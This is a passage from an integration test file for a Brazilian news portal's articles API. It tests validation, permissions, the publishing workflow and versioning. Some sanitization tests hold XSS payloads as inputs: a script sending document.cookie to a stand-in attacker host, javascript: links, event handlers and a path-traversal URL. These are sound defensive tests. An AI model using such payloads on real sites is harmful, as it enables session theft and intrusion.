// The articles API over real HTTP: writing, the workflow, versions, reading, the premium gate,
// views, reading history, related articles and the SEO pipeline.
import { randomUUID } from 'node:crypto';
import { request as httpRequest } from 'node:http';
import { beforeAll, describe, expect, it } from 'vitest';
import type { ArticleDraft, ArticleVersionSummary, ArticleView, HomeFeed, MyArticles, ReviewQueue } from '../../shared/api-types';
import type { ArticleStatus } from '../../shared/articles';
import { eventually } from '../support/api';
import { byCase, CheckedPortal, member, newsroom, type ApiResponse, type Member, type Newsroom } from '../support/cast';
import { pipelinesDrained } from '../support/pipelines';
import { PortalTable } from '../support/table';
import { VIEW_LIMITS } from '../../lambdas/articles/views';
import { workerRuntime } from '../support/worker-runtime';

const { baseUrl, ports } = workerRuntime();
const portal = new CheckedPortal(baseUrl);
const table = new PortalTable(ports.dynamodb);

const CITY = {
  campinas: { code: '3509502', path: 'campinas-sp' },
  recife: { code: '2611606', path: 'recife-pe' },
  saoPaulo: { code: '3550308', path: 'sao-paulo-sp' },
  belem: { code: '1501402', path: 'belem-pa' },
  curitiba: { code: '4106902', path: 'curitiba-pr' },
} as const;

const MSG = {
  notFound: 'Artigo não encontrado.',
  createForbidden: 'Você precisa ser Autor, Editor ou Master para criar artigos.',
  editForbidden: 'Você não tem permissão para editar este artigo.',
  deleteForbidden: 'Você não tem permissão para excluir este artigo.',
  statusForbidden: 'Você não tem permissão para alterar o status para este valor.',
  slugTaken: 'Este slug já está em uso por outro artigo. Escolha outro.',
  staleVersion: 'O artigo foi alterado por outra pessoa enquanto você editava. Recarregue a página para ver a versão atual.',
  invalidCity: 'Cidade inválida. Escolha uma cidade da lista.',
  versionNotFound: 'Versão não encontrada.',
  invalidReading: 'Dados de leitura inválidos.',
} as const;

let author: Member;
let otherAuthor: Member;
let editor: Member;
let master: Member;
let reader: Member;
let subscriber: Member;

beforeAll(async () => {
  let people: Newsroom;
  [people, subscriber] = await Promise.all([newsroom(portal, table, ''), member(portal, table, 'assinante', 'Sara Assinante', { subscribed: true })]);
  ({ author, otherAuthor, editor, master, reader } = people);
});

// ---------------------------------------------------------------------------------------------
// Helpers

const uniqueSlug = (prefix = 'artigo') => `${prefix}-${randomUUID().slice(0, 8)}`;

const BODY =
  '<p>A prefeitura confirmou nesta segunda-feira a ampliação do horário de atendimento nas unidades de saúde.</p>';

function articleInput(overrides: Record<string, unknown> = {}): Record<string, unknown> {
  return {
    title: 'Prefeitura amplia horário dos postos de saúde',
    slug: uniqueSlug(),
    summary: 'Unidades passam a atender até as 22h a partir de março.',
    content: BODY,
    tags: [],
    ...overrides,
  };
}

const asDraft = (response: ApiResponse) => response.body as unknown as ArticleDraft;
const asView = (response: ApiResponse) => response.body as unknown as ArticleView;

function createAs(who: Member | undefined, overrides: Record<string, unknown> = {}): Promise<ApiResponse> {
  return portal.request('POST', '/api/articles', { token: who?.token, body: articleInput(overrides) });
}

async function create(who: Member, overrides: Record<string, unknown> = {}): Promise<ArticleDraft> {
  const response = await createAs(who, overrides);
  expect(response.status, response.text).toBe(201);
  return asDraft(response);
}

/** The editor's form, filled from a draft, with some fields changed. */
function editBody(draft: ArticleDraft, changes: Record<string, unknown> = {}): Record<string, unknown> {
  return {
    title: draft.title,
    slug: draft.slug,
    summary: draft.summary,
    content: draft.content,
    cover_image: draft.cover_image,
    visibility: draft.visibility,
    tags: draft.tags,
    city_code: draft.city_code,
    status: draft.status,
    base_version: draft.version,
    ...changes,
  };
}

function put(who: Member, draft: ArticleDraft, changes: Record<string, unknown> = {}): Promise<ApiResponse> {
  return portal.request('PUT', `/api/articles/${draft.id}`, { token: who.token, body: editBody(draft, changes) });
}

async function save(who: Member, draft: ArticleDraft, changes: Record<string, unknown> = {}): Promise<ArticleDraft> {
  const response = await put(who, draft, changes);
  expect(response.status, response.text).toBe(200);
  return asDraft(response);
}

/** Created by `who`, published by the editor. */
async function published(who: Member, overrides: Record<string, unknown> = {}): Promise<ArticleDraft> {
  return save(editor, await create(who, overrides), { status: 'published' });
}

function getDraft(who: Member | undefined, id: string): Promise<ApiResponse> {
  return portal.request('GET', `/api/articles/${id}`, { token: who?.token });
}

async function stored(id: string): Promise<ArticleDraft> {
  const response = await getDraft(editor, id);
  expect(response.status, response.text).toBe(200);
  return asDraft(response);
}

function bySlug(who: Member | undefined, slug: string, location?: string): Promise<ApiResponse> {
  const query = location === undefined ? '' : `?location=${encodeURIComponent(location)}`;
  return portal.request('GET', `/api/articles/by-slug/${slug}${query}`, { token: who?.token });
}

async function home(city?: string): Promise<{ response: ApiResponse; feed: HomeFeed }> {
  const response = await portal.request('GET', `/api/home${city ? `?city=${encodeURIComponent(city)}` : ''}`);
  expect(response.status, response.text).toBe(200);
  return { response, feed: response.body as unknown as HomeFeed };
}

async function mine(who: Member): Promise<{ response: ApiResponse; list: MyArticles }> {
  const response = await portal.request('GET', '/api/articles/mine', { token: who.token });
  expect(response.status, response.text).toBe(200);
  return { response, list: response.body as unknown as MyArticles };
}

async function related(id: string): Promise<{ response: ApiResponse; ids: string[] }> {
  const response = await portal.request('GET', `/api/articles/${id}/related`);
  expect(response.status, response.text).toBe(200);
  return { response, ids: (response.body.articles as { id: string }[]).map((card) => card.id) };
}

function expectError(response: ApiResponse, status: number, message: string): void {
  expect(response.status, response.text).toBe(status);
  expect(response.body.message).toBe(message);
}

// ---------------------------------------------------------------------------------------------

describe('POST /api/articles (create)', () => {
  it('needs a signed-in caller', async () => {
    expect((await createAs(undefined)).status).toBe(401);
  });

  it('refuses a reader without a writing role', async () => {
    expectError(await createAs(reader), 403, MSG.createForbidden);
  });

  it('refuses a subscriber without a writing role', async () => {
    expectError(await createAs(subscriber), 403, MSG.createForbidden);
  });

  it('creates a draft for an author even when the body asks for "published"', async () => {
    const slug = uniqueSlug('rascunho');
    const response = await createAs(author, { slug, status: 'published', published_at: '2020-01-01T00:00:00.000Z' });
    expect(response.status, response.text).toBe(201);
    const draft = asDraft(response);
    expect(draft).toMatchObject({
      slug,
      status: 'draft',
      published_at: null,
      version: 1,
      author_id: author.id,
      visibility: 'public',
      cover_image: '',
      city_code: null,
      location_path: null,
      allowed_statuses: ['draft', 'review'],
      seo: null,
    });
    expect(draft.author.full_name).toBe('Ana Autora');
    expect((await stored(draft.id)).status).toBe('draft');
  });

  it('lets editors and the master create articles too', async () => {
    expect((await createAs(editor)).status).toBe(201);
    expect((await createAs(master)).status).toBe(201);
  });

  it.each(byCase([
    { case: 'a missing title', input: { title: undefined }, field: 'title', message: 'Título deve ter pelo menos 3 caracteres' },
    { case: 'a title of 2 characters once trimmed', input: { title: '  ab  ' }, field: 'title', message: 'Título deve ter pelo menos 3 caracteres' },
    { case: 'a title longer than 200 characters', input: { title: 'a'.repeat(201) }, field: 'title', message: 'Título muito longo' },
    { case: 'a slug shorter than 3 characters', input: { slug: 'ab' }, field: 'slug', message: 'Slug deve ter pelo menos 3 caracteres' },
    { case: 'a slug longer than 200 characters', input: { slug: 'a'.repeat(201) }, field: 'slug', message: 'Slug muito longo' },
    { case: 'a slug with upper-case letters', input: { slug: 'Nova-Linha' }, field: 'slug', message: 'Slug deve conter apenas letras minúsculas, números e hífens' },
    { case: 'a slug with spaces', input: { slug: 'nova linha' }, field: 'slug', message: 'Slug deve conter apenas letras minúsculas, números e hífens' },
    { case: 'a slug with accents', input: { slug: 'inauguracao-da-ponte-em-belém' }, field: 'slug', message: 'Slug deve conter apenas letras minúsculas, números e hífens' },
    { case: 'a slug with an underscore', input: { slug: 'nova_linha' }, field: 'slug', message: 'Slug deve conter apenas letras minúsculas, números e hífens' },
    { case: 'a missing summary', input: { summary: undefined }, field: 'summary', message: 'Resumo deve ter pelo menos 10 caracteres' },
    { case: 'a summary shorter than 10 characters', input: { summary: 'Curto' }, field: 'summary', message: 'Resumo deve ter pelo menos 10 caracteres' },
    { case: 'a summary longer than 500 characters', input: { summary: 'a'.repeat(501) }, field: 'summary', message: 'Resumo muito longo' },
    { case: 'a missing content', input: { content: undefined }, field: 'content', message: 'Conteúdo deve ter pelo menos 50 caracteres' },
    { case: 'content shorter than 50 characters', input: { content: '<p>Texto curto.</p>' }, field: 'content', message: 'Conteúdo deve ter pelo menos 50 caracteres' },
    { case: 'content longer than 50,000 characters', input: { content: `<p>${'a'.repeat(50_001)}</p>` }, field: 'content', message: 'Conteúdo muito longo' },
    {
      case: 'content that is only a script once sanitized',
      input: { content: `<script>${'alert(document.cookie);'.repeat(5)}</script>` },
      field: 'content',
      message: 'Conteúdo deve ter pelo menos 50 caracteres',
    },
    { case: 'a javascript: cover URL', input: { cover_image: 'javascript:alert(1)' }, field: 'cover_image', message: 'URL inválida' },
    { case: 'a cover that is not a URL', input: { cover_image: 'capa.png' }, field: 'cover_image', message: 'URL inválida' },
    { case: 'an ftp cover URL', input: { cover_image: 'ftp://exemplo.com.br/capa.png' }, field: 'cover_image', message: 'URL inválida' },
    { case: 'a cover path that climbs out of /media', input: { cover_image: '/media/../segredo.png' }, field: 'cover_image', message: 'URL inválida' },
    { case: 'an unknown visibility', input: { visibility: 'secreto' }, field: 'visibility', message: 'Visibilidade inválida' },
    { case: 'more than 10 tags', input: { tags: Array.from({ length: 11 }, (_, index) => `tema${index}`) }, field: 'tags', message: 'Use no máximo 10 tags' },
    { case: 'a tag longer than 50 characters', input: { tags: ['a'.repeat(51)] }, field: 'tags', message: 'Tag muito longa' },
    { case: 'a city code that is not 7 digits', input: { city_code: '123' }, field: 'city_code', message: MSG.invalidCity },
    { case: 'an unknown city code', input: { city_code: '9999999' }, field: 'city_code', message: MSG.invalidCity },
    { case: 'a bad title and a bad slug, answering for the title first', input: { title: 'ab', slug: 'X' }, field: 'title', message: 'Título deve ter pelo menos 3 caracteres' },
    { case: 'a bad slug and a bad summary, answering for the slug first', input: { slug: 'ab', summary: 'x' }, field: 'slug', message: 'Slug deve ter pelo menos 3 caracteres' },
    { case: 'a bad summary and a bad cover, answering for the summary first', input: { summary: 'x', cover_image: 'x' }, field: 'summary', message: 'Resumo deve ter pelo menos 10 caracteres' },
  ]))('refuses %s', async (_, { input, field, message }) => {
    const response = await createAs(author, input);
    expectError(response, 400, message);
    expect(response.body.field).toBe(field);
  });

  it('accepts a cover of our own media and an https cover', async () => {
    expect((await create(author, { cover_image: '/media/abc-123/1700000000000.png' })).cover_image).toBe('/media/abc-123/1700000000000.png');
    expect((await create(author, { cover_image: 'https://exemplo.com.br/capa.jpg' })).cover_image).toBe('https://exemplo.com.br/capa.jpg');
  });

  it('normalizes tags: trimmed, lower-case and without duplicates or empties', async () => {
    const draft = await create(author, { tags: ['  Política ', 'política', 'ECONOMIA', 'Meio   Ambiente', '', '   ', 'economia'] });
    expect(draft.tags).toEqual(['política', 'economia', 'meio ambiente']);
    expect((await stored(draft.id)).tags).toEqual(['política', 'economia', 'meio ambiente']);
  });

  it('stores the primary city of a known city code', async () => {
    const draft = await create(author, { city_code: CITY.campinas.code });
    expect(draft.city_code).toBe(CITY.campinas.code);
    expect(draft.location_path).toBe(CITY.campinas.path);
    expect(draft.locations).toEqual([
      {
        location_type: 'city',
        code: CITY.campinas.code,
        location_name: 'Campinas',
        state_code: 'SP',
        location_path: CITY.campinas.path,
        confidence: 1,
        is_primary: true,
      },
    ]);
  });

  it('strips scripts, event handlers, javascript: links and foreign iframes, and keeps a YouTube embed', async () => {
    const content = [
      '<p>Texto legítimo do artigo, com tamanho suficiente para ser aceito pelo portal.</p>',
      '<script>fetch("https://ladrao.example.com/?c=" + document.cookie)</script>',
      '<p onclick="roubar()">Parágrafo com manipulador de clique</p>',
      '<p><a href="javascript:alert(1)">link perigoso</a></p>',
      '<iframe src="https://malicioso.example.com/player"></iframe>',
      '<div data-youtube-video=""><iframe src="https://www.youtube.com/embed/dQw4w9WgXcQ"></iframe></div>',
    ].join('');
    const draft = await create(author, { content });
    for (const body of [draft.content, (await stored(draft.id)).content]) {
      expect(body).not.toContain('<script');
      expect(body).not.toContain('document.cookie');
      expect(body).not.toContain('onclick');
      expect(body).not.toContain('javascript:');
      expect(body).not.toContain('malicioso.example.com');
      expect(body).toContain('Parágrafo com manipulador de clique');
      expect(body).toContain('link perigoso');
      expect(body).toMatch(/<iframe[^>]+src="https:\/\/www\.youtube\.com\/embed\/dQw4w9WgXcQ"/);
    }
  });
});

describe('slugs', () => {
  it('refuses a slug another article already holds', async () => {
    const first = await create(author);
    expectError(await createAs(otherAuthor, { slug: first.slug }), 409, MSG.slugTaken);
  });

  it('gives a slug to exactly one of ten simultaneous creations by two authors', async () => {
    const slug = uniqueSlug('disputa');
    const attempts = await Promise.all(
      Array.from({ length: 10 }, (_, index) => createAs(index % 2 ? otherAuthor : author, { slug, title: `Disputa pelo slug ${index}` })),
    );
    const winners = attempts.filter((attempt) => attempt.status === 201);
    expect(winners, attempts.map((attempt) => `${attempt.status} ${attempt.text}`).join('\n')).toHaveLength(1);
    for (const loser of attempts.filter((attempt) => attempt.status !== 201)) expectError(loser, 409, MSG.slugTaken);
    const winner = asDraft(winners[0] as ApiResponse);
    expect(asView(await bySlug(editor, slug)).id).toBe(winner.id);
    // The losers left no article behind.
    const holders = [...(await mine(author)).list.articles, ...(await mine(otherAuthor)).list.articles].filter((article) => article.slug === slug);
    expect(holders.map((article) => article.id)).toEqual([winner.id]);
  });

  it('frees the old slug when an article changes its slug', async () => {
    const article = await create(author);
    const oldSlug = article.slug;
    const renamed = await save(author, article, { slug: uniqueSlug('renomeado') });
    expect(renamed.slug).not.toBe(oldSlug);
    expect(asView(await bySlug(author, renamed.slug)).id).toBe(article.id);
    expect((await bySlug(author, oldSlug)).status).toBe(404);
    const taker = await create(otherAuthor, { slug: oldSlug });
    expect(asView(await bySlug(otherAuthor, oldSlug)).id).toBe(taker.id);
  });

  it('refuses to rename an article to a slug another article holds, and keeps the article as it was', async () => {
    const holder = await create(otherAuthor);
    const article = await create(author);
    expectError(await put(author, article, { slug: holder.slug, title: 'Outro título qualquer' }), 409, MSG.slugTaken);
    expect(await stored(article.id)).toMatchObject({ slug: article.slug, title: article.title, version: 1 });
    expect(asView(await bySlug(otherAuthor, holder.slug)).id).toBe(holder.id);
  });
});

describe('GET and PUT /api/articles/{id} (edit permission)', () => {
  let article: ArticleDraft;
  beforeAll(async () => {
    article = await create(author, { title: 'Artigo para testar permissões' });
  });

  it('needs a signed-in caller', async () => {
    expect((await getDraft(undefined, article.id)).status).toBe(401);
    expect((await portal.request('PUT', `/api/articles/${article.id}`, { body: editBody(article) })).status).toBe(401);
  });

  it.each(['the author', 'an editor', 'the master'])('lets %s read and save the article', async (who) => {
    const caller = { 'the author': author, 'an editor': editor, 'the master': master }[who] as Member;
    const current = await getDraft(caller, article.id);
    expect(current.status, current.text).toBe(200);
    const draft = asDraft(current);
    expect(draft.id).toBe(article.id);
    const saved = await save(caller, draft, { title: `Salvo por ${who}` });
    expect(saved.title).toBe(`Salvo por ${who}`);
    expect(saved.version).toBe(draft.version + 1);
    expect(saved.author_id).toBe(author.id);
  });

  it.each(['another author', 'a reader', 'a subscriber'])('refuses %s reading or saving the article', async (who) => {
    const caller = { 'another author': otherAuthor, 'a reader': reader, 'a subscriber': subscriber }[who] as Member;
    const before = await stored(article.id);
    expectError(await getDraft(caller, article.id), 403, MSG.editForbidden);
    expectError(await put(caller, before, { title: 'Tentativa indevida' }), 403, MSG.editForbidden);
    expect(await stored(article.id)).toEqual(before);
  });

  it('answers 404 for an article that does not exist', async () => {
    const missing = randomUUID();
    expectError(await getDraft(author, missing), 404, MSG.notFound);
    expectError(await portal.request('PUT', `/api/articles/${missing}`, { token: editor.token, body: editBody(article) }), 404, MSG.notFound);
    expectError(await portal.request('GET', `/api/articles/${missing}/versions`, { token: editor.token }), 404, MSG.notFound);
    expectError(await portal.request('DELETE', `/api/articles/${missing}`, { token: master.token }), 404, MSG.notFound);
  });
});

describe('the status workflow', () => {
  it('lets the author move a draft to review', async () => {
    const draft = await create(author);
    const inReview = await save(author, draft, { status: 'review' });
    expect(inReview.status).toBe('review');
    expect(inReview.published_at).toBeNull();
    expect((await stored(draft.id)).status).toBe('review');
  });

  it('refuses the author publishing a draft', async () => {
    const draft = await create(author);
    expectError(await put(author, draft, { status: 'published' }), 403, MSG.statusForbidden);
    expect(await stored(draft.id)).toMatchObject({ status: 'draft', version: 1, published_at: null });
  });

  it('refuses the author moving an article in review back to draft, or publishing it', async () => {
    const inReview = await save(author, await create(author), { status: 'review' });
    expectError(await put(author, inReview, { status: 'draft' }), 403, MSG.statusForbidden);
    expectError(await put(author, inReview, { status: 'published' }), 403, MSG.statusForbidden);
    expect(await stored(inReview.id)).toMatchObject({ status: 'review', version: inReview.version });
  });

  it('refuses the author unpublishing a published article', async () => {
    const live = await published(author);
    const own = asDraft(await getDraft(author, live.id));
    expect(own.allowed_statuses).toEqual(['published']);
    expectError(await put(author, own, { status: 'draft' }), 403, MSG.statusForbidden);
    expectError(await put(author, own, { status: 'review' }), 403, MSG.statusForbidden);
    // Saving without changing the status stays allowed.
    expect((await save(author, own, { title: 'Correção de um detalhe no texto' })).status).toBe('published');
  });

  it.each(['an editor', 'the master'])('lets %s set draft, review and published from any state', async (who) => {
    const caller = who === 'an editor' ? editor : master;
    let article = await create(author);
    const path: ArticleStatus[] = ['published', 'review', 'draft', 'review', 'published', 'draft'];
    for (const status of path) {
      article = await save(caller, article, { status });
      expect(article.status).toBe(status);
      expect(article.allowed_statuses).toEqual(['draft', 'review', 'published']);
    }
  });

  it('sets published_at on the first publication and keeps it when unpublished and published again', async () => {
    const draft = await create(author);
    expect(draft.published_at).toBeNull();
    const first = await save(editor, draft, { status: 'published' });
    expect(first.published_at).toEqual(expect.any(String));
    // A day back (the version stays): a date written again on a later save could not match it.
    const publishedAt = new Date(Date.parse(String(first.published_at)) - 24 * 3600 * 1000).toISOString();
    await table.backdatePublication(first.id, new Date(publishedAt));
    const unpublished = await save(editor, first, { status: 'draft' });
    expect(unpublished.published_at).toBe(publishedAt);
    const again = await save(editor, unpublished, { status: 'published' });
    expect(again.published_at).toBe(publishedAt);
    const edited = await save(editor, again, { title: 'Título revisado depois de publicado' });
    expect(edited.published_at).toBe(publishedAt);
    expect((await stored(draft.id)).published_at).toBe(publishedAt);
  });

  it('offers the author draft and review on a draft, only the current status otherwise, and editors everything', async () => {
    const draft = await create(author);
    expect(asDraft(await getDraft(author, draft.id)).allowed_statuses).toEqual(['draft', 'review']);
    expect(asDraft(await getDraft(editor, draft.id)).allowed_statuses).toEqual(['draft', 'review', 'published']);
    expect(asDraft(await getDraft(master, draft.id)).allowed_statuses).toEqual(['draft', 'review', 'published']);
    const inReview = await save(author, draft, { status: 'review' });
    expect(inReview.allowed_statuses).toEqual(['review']);
    expect(asDraft(await getDraft(author, draft.id)).allowed_statuses).toEqual(['review']);
    expect(asDraft(await getDraft(editor, draft.id)).allowed_statuses).toEqual(['draft', 'review', 'published']);
  });

  it('refuses a save based on a stale version and keeps the newer one', async () => {
    const original = await create(author);
    const newer = await save(editor, original, { title: 'Versão salva pelo editor' });
    expectError(await put(author, original, { title: 'Versão atrasada da autora' }), 409, MSG.staleVersion);
    expect(await stored(original.id)).toMatchObject({ title: 'Versão salva pelo editor', version: newer.version });
  });

  it('accepts exactly one of two simultaneous saves from the same version', async () => {
    const original = await create(author);
    const [first, second] = await Promise.all([
      put(author, original, { title: 'Primeira edição simultânea' }),
      put(editor, original, { title: 'Segunda edição simultânea' }),
    ]);
    const statuses = [first?.status, second?.status].sort();
    expect(statuses, `${first?.text}\n${second?.text}`).toEqual([200, 409]);
    const loser = first?.status === 409 ? first : second;
    expect(loser?.body.message).toBe(MSG.staleVersion);
    expect((await stored(original.id)).version).toBe(2);
  });

  it.each(byCase([
    { case: 'a title too short', changes: { title: 'ab' }, status: 400, message: 'Título deve ter pelo menos 3 caracteres' },
    { case: 'a slug with upper-case letters', changes: { slug: 'Slug-Invalido' }, status: 400, message: 'Slug deve conter apenas letras minúsculas, números e hífens' },
    { case: 'an unknown city code', changes: { city_code: '9999999' }, status: 400, message: MSG.invalidCity },
    { case: 'content that sanitizes to nothing', changes: { content: `<script>${'x'.repeat(80)}</script>` }, status: 400, message: 'Conteúdo deve ter pelo menos 50 caracteres' },
    { case: 'an unknown status', changes: { status: 'arquivado' }, status: 400, message: 'Status inválido' },
    { case: 'no base version', changes: { base_version: undefined }, status: 400, message: 'Versão inválida' },
    { case: 'a status the author may not set', changes: { status: 'published' }, status: 403, message: MSG.statusForbidden },
  ]))('leaves the stored article unchanged after a save with %s', async (_, { changes, status, message }) => {
    const article = await create(author, { city_code: CITY.recife.code, tags: ['Cidade'] });
    const before = await stored(article.id);
    const response = await put(author, before, { title: 'Um título novo que não deve ficar', ...changes });
    expectError(response, status, message);
    expect(await stored(article.id)).toEqual(before);
    const versions = await portal.request('GET', `/api/articles/${article.id}/versions`, { token: author.token });
    expect((versions.body as unknown as ArticleVersionSummary[]).map((version) => version.version_number)).toEqual([1]);
  });
});

describe('versions', () => {
  it('keeps a version per save, lists them newest first and restores one as a new version', async () => {
    const v1 = await create(author, {
      title: 'Título da primeira versão',
      summary: 'Resumo da primeira versão do artigo.',
      content: '<p>Conteúdo da primeira versão, com texto suficiente para ser aceito pelo portal.</p>',
    });
    const v2 = await save(author, v1, {
      title: 'Título da segunda versão',
      summary: 'Resumo da segunda versão do artigo.',
      content: '<p>Conteúdo da segunda versão, reescrito com texto suficiente para ser aceito.</p>',
      slug: uniqueSlug('segunda'),
      status: 'review',
    });
    const v3 = await save(editor, v2, { title: 'Título da terceira versão' });
    expect([v1.version, v2.version, v3.version]).toEqual([1, 2, 3]);

    const list = await portal.request('GET', `/api/articles/${v1.id}/versions`, { token: author.token });
    expect(list.status, list.text).toBe(200);
    const versions = list.body as unknown as ArticleVersionSummary[];
    expect(versions.map((version) => version.version_number)).toEqual([3, 2, 1]);
    expect(versions.map((version) => version.title)).toEqual(['Título da terceira versão', 'Título da segunda versão', 'Título da primeira versão']);
    expect(versions.map((version) => version.changed_by.id)).toEqual([editor.id, author.id, author.id]);
    expect(versions[0]?.changed_by.full_name).toBe('Edu Editor');
    expect(list.text).not.toContain('Conteúdo da');

    const restore = await portal.request('POST', `/api/articles/${v1.id}/versions/1/restore`, { token: author.token });
    expect(restore.status, restore.text).toBe(200);
    const restored = asDraft(restore);
    expect(restored).toMatchObject({
      version: 4,
      title: v1.title,
      summary: v1.summary,
      content: v1.content,
      status: 'review',
      slug: v2.slug,
    });
    expect(await stored(v1.id)).toMatchObject({ version: 4, title: v1.title, summary: v1.summary, content: v1.content, status: 'review', slug: v2.slug });
    const after = await portal.request('GET', `/api/articles/${v1.id}/versions`, { token: editor.token });
    expect((after.body as unknown as ArticleVersionSummary[]).map((version) => [version.version_number, version.title])).toEqual([
      [4, 'Título da primeira versão'],
      [3, 'Título da terceira versão'],
      [2, 'Título da segunda versão'],
      [1, 'Título da primeira versão'],
    ]);
  });

  it('keeps a published article published when a version is restored', async () => {
    const v1 = await create(author, { title: 'Primeiro título publicado' });
    const live = await save(editor, v1, { status: 'published', title: 'Segundo título publicado' });
    const restore = await portal.request('POST', `/api/articles/${v1.id}/versions/1/restore`, { token: editor.token });
    expect(restore.status, restore.text).toBe(200);
    expect(asDraft(restore)).toMatchObject({ status: 'published', title: 'Primeiro título publicado', published_at: live.published_at });
  });

  it('refuses to restore over a newer save than the one the editor holds', async () => {
    const v1 = await create(author, { title: 'Título da primeira versão' });
    const v2 = await save(author, v1, { title: 'Título da segunda versão' });
    await save(editor, v2, { title: 'Título salvo por outra pessoa' });
    const restore = await portal.request('POST', `/api/articles/${v1.id}/versions/1/restore`, {
      token: author.token,
      body: { base_version: v2.version },
    });
    expectError(restore, 409, MSG.staleVersion);
    expect((await stored(v1.id)).title).toBe('Título salvo por outra pessoa');
  });

  it('refuses a restore whose base version is not a number, or whose body is not an object, and changes nothing', async () => {
    const v1 = await create(author, { title: 'Título da primeira versão' });
    const v2 = await save(author, v1, { title: 'Título da segunda versão' });
    for (const rawBody of ['{"base_version":"2"}', '{"base_version":null}', '{"base_version":1.5}']) {
      const restore = await portal.request('POST', `/api/articles/${v1.id}/versions/1/restore`, { token: author.token, rawBody });
      expectError(restore, 400, 'Versão inválida');
    }
    for (const rawBody of ['"texto"', '[2]', '{"base_version":']) {
      const restore = await portal.request('POST', `/api/articles/${v1.id}/versions/1/restore`, { token: author.token, rawBody });
      expectError(restore, 400, 'Corpo da requisição inválido');
    }
    expect(await stored(v1.id)).toMatchObject({ version: v2.version, title: 'Título da segunda versão' });
  });

  it('answers 404 for a version that does not exist', async () => {
    const article = await create(author);
    for (const version of ['99', '0', 'abc']) {
      expectError(await portal.request('POST', `/api/articles/${article.id}/versions/${version}/restore`, { token: author.token }), 404, MSG.versionNotFound);
    }
    expect((await stored(article.id)).version).toBe(1);
  });

  it('refuses versions and restores to someone who may not edit the article', async () => {
    const article = await create(author);
    expectError(await portal.request('GET', `/api/articles/${article.id}/versions`, { token: otherAuthor.token }), 403, MSG.editForbidden);
    expectError(await portal.request('POST', `/api/articles/${article.id}/versions/1/restore`, { token: reader.token }), 403, MSG.editForbidden);
  });
});

describe('partial updates and input hygiene', () => {
  it('keeps a premium article premium, and its tags, when an edit sends only the status', async () => {
    const draft = await create(author, { visibility: 'premium', tags: ['economia', 'campinas'], city_code: CITY.campinas.code });
    const response = await portal.request('PUT', `/api/articles/${draft.id}`, { token: editor.token, body: { status: 'published', base_version: draft.version } });
    expect(response.status, response.text).toBe(200);
    expect(await stored(draft.id)).toMatchObject({
      status: 'published',
      visibility: 'premium',
      tags: ['economia', 'campinas'],
      location_path: CITY.campinas.path,
      title: draft.title,
      cover_image: draft.cover_image,
    });
    expect(asView(await bySlug(undefined, draft.slug)).gated).toBe(true);
  });

  it('changes only the field an edit sends', async () => {
    const draft = await create(author, { visibility: 'premium', tags: ['cultura'] });
    const edited = await portal.request('PUT', `/api/articles/${draft.id}`, { token: author.token, body: { title: 'Só o título mudou', base_version: 1 } });
    expect(edited.status, edited.text).toBe(200);
    expect(await stored(draft.id)).toMatchObject({ title: 'Só o título mudou', visibility: 'premium', tags: ['cultura'], summary: draft.summary, status: 'draft' });
  });

  it('refuses control characters in text fields, with a 400 that stores nothing', async () => {
    for (const overrides of [{ summary: '\u0000'.repeat(11) }, { title: 'Título\u0000oculto' }, { content: `${BODY}\u0007` }, { tags: ['a\u001bb'] }]) {
      expectError(await createAs(author, overrides), 400, 'O texto contém caracteres inválidos');
    }
    const draft = await create(author);
    expectError(await put(author, draft, { title: 'Título\u0000' }), 400, 'O texto contém caracteres inválidos');
    expect((await stored(draft.id)).version).toBe(1);
  });

  it('stores cover URLs in their normalized form and refuses anything but http(s) and our media', async () => {
    const draft = await create(author, { cover_image: 'https://Exemplo.com.br/capa-"oficial".jpg?a=<b>' });
    expect(draft.cover_image).toBe('https://exemplo.com.br/capa-%22oficial%22.jpg?a=%3Cb%3E');
    for (const cover_image of ['javascript:alert(1)', '"><script>alert(1)</script>', 'data:image/png;base64,AAAA', '/outro/caminho.png']) {
      expectError(await createAs(author, { cover_image }), 400, 'URL inválida');
    }
  });
});

describe('GET /api/articles/mine', () => {
  it('needs a signed-in caller', async () => {
    expect((await portal.request('GET', '/api/articles/mine')).status).toBe(401);
  });

  it("lists only the caller's articles, newest first, with counts per status", async () => {
    const writer = await member(portal, table, 'minhas', 'Mina Autora', { roles: ['author'] });
    const first = await create(writer, { title: 'Primeiro artigo da lista' });
    const second = await save(writer, await create(writer, { title: 'Segundo artigo da lista' }), { status: 'review' });
    const third = await published(writer, { title: 'Terceiro artigo da lista' });
    const fourth = await create(writer, { title: 'Quarto artigo da lista' });
    await create(otherAuthor, { title: 'Artigo de outra pessoa' });

    const { list } = await mine(writer);
    expect(list.articles.map((article) => article.id)).toEqual([fourth.id, third.id, second.id, first.id]);
    expect(list.counts).toEqual({ all: 4, draft: 2, review: 1, published: 1 });
    expect(list.articles.find((article) => article.id === third.id)).toMatchObject({ status: 'published', published_at: third.published_at });
    expect(list.articles[0]).not.toHaveProperty('content');
  });

  it('answers an empty list to a reader', async () => {
    const { list } = await mine(reader);
    expect(list).toEqual({ articles: [], counts: { all: 0, draft: 0, review: 0, published: 0 } });
  });
});

describe('GET /api/articles/in-review (the editors\' queue)', () => {
  it('lists articles in review from every author for editors and the master, and nothing else', async () => {
    const waiting = await save(author, await create(author, { title: 'Artigo esperando revisão' }), { status: 'review' });
    const draft = await create(otherAuthor, { title: 'Rascunho fora da fila' });
    const live = await published(otherAuthor, { title: 'Publicado fora da fila' });
    for (const who of [editor, master]) {
      const response = await portal.request('GET', '/api/articles/in-review', { token: who.token });
      expect(response.status).toBe(200);
      const queue = response.body as unknown as ReviewQueue;
      const ids = queue.articles.map((article) => article.id);
      expect(ids).toContain(waiting.id);
      expect(ids).not.toContain(draft.id);
      expect(ids).not.toContain(live.id);
      expect(queue.articles.find((article) => article.id === waiting.id)).toMatchObject({
        status: 'review',
        author: { id: author.id, full_name: 'Ana Autora' },
      });
      expect(queue.articles[0]).not.toHaveProperty('content');
    }
    // Once published it leaves the queue.
    await save(editor, await stored(waiting.id), { status: 'published' });
    const after = (await portal.request('GET', '/api/articles/in-review', { token: editor.token })).body as unknown as ReviewQueue;
    expect(after.articles.map((article) => article.id)).not.toContain(waiting.id);
  });

  it('refuses authors and readers', async () => {
    for (const who of [author, reader]) {
      expectError(await portal.request('GET', '/api/articles/in-review', { token: who.token }), 403, 'Acesso negado: apenas editores e o Master revisam artigos.');
    }
    expect((await portal.request('GET', '/api/articles/in-review')).status).toBe(401);
  });
});

describe('DELETE /api/articles/{id}', () => {
  it('refuses another author and an editor, and keeps the article', async () => {
    const article = await published(author);
